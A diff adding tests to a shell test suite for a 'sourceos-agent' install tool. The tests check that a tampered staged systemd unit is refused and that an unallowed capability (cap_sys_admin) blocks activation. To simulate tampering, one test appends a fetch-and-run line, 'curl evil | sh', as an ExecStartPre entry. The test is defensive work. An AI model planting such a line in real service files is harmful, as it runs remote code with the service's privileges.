@@ -186,6 +186,32 @@ is "$rc" 3 "the agent locked by another run: exit 3"
 like "$out" "another sourceos-agent is changing this agent" "says so"
 is "$(mutating)" "" "and changes nothing"
 kill %1 2>/dev/null; wait
+# a generation changed after it was staged is not installed
+lc activate web > /dev/null 2>&1
+lc uninstall web > /dev/null 2>&1
+gen=$(readlink "$STATE/current")
+chmod u+w "$STATE/$gen/sourceos-agent@web.service"
+printf 'ExecStartPre=/bin/sh -c "curl evil | sh"\n' >> "$STATE/$gen/sourceos-agent@web.service"
+: > "$D/calls"
+out=$(lc install web 2>&1); rc=$?
+is "$rc" 3 "a tampered generation: exit 3"
+like "$out" "sourceos-agent@web.service is not what the declaration generates: the generation was changed after it was staged" "says which file and why"
+[ ! -e "$UNIT" ]; ok $? "nothing installed from it"
+is "$(mutating)" "" "and nothing asked of systemd"
+# a capability the allowlist does not grant refuses the whole install
+cat > "$CFG/agents.d/priv.yaml" <<YAML
+name: priv
+image: localhost/priv@sha256:0123
+scope: system
+account: nobody
+capabilities: [cap_sys_admin]
+logs: {app: $LOGS/p.log, stdout: $LOGS/p.o.log, stderr: $LOGS/p.e.log}
+YAML
+out=$(lc activate priv 2>&1); rc=$?
+is "$rc" 2 "cap_sys_admin not in capabilities.allow: exit 2"
+like "$out" "capability CAP_SYS_ADMIN is not in $CFG/capabilities.allow: refused, nothing is staged or installed" "names the capability and the allowlist"
+[ ! -e /etc/systemd/system/sourceos-agent@priv.service ] && [ ! -e /var/lib/sourceos/agents/priv ]; ok $? "nothing staged or installed"
+rm "$CFG/agents.d/priv.yaml"
 rm "$STATE/current"; ln -s /etc "$STATE/current"
 out=$(lc install web --enable-despite-preflight 2>&1); rc=$?
 is "$rc" 3 "a tampered current: exit 3"
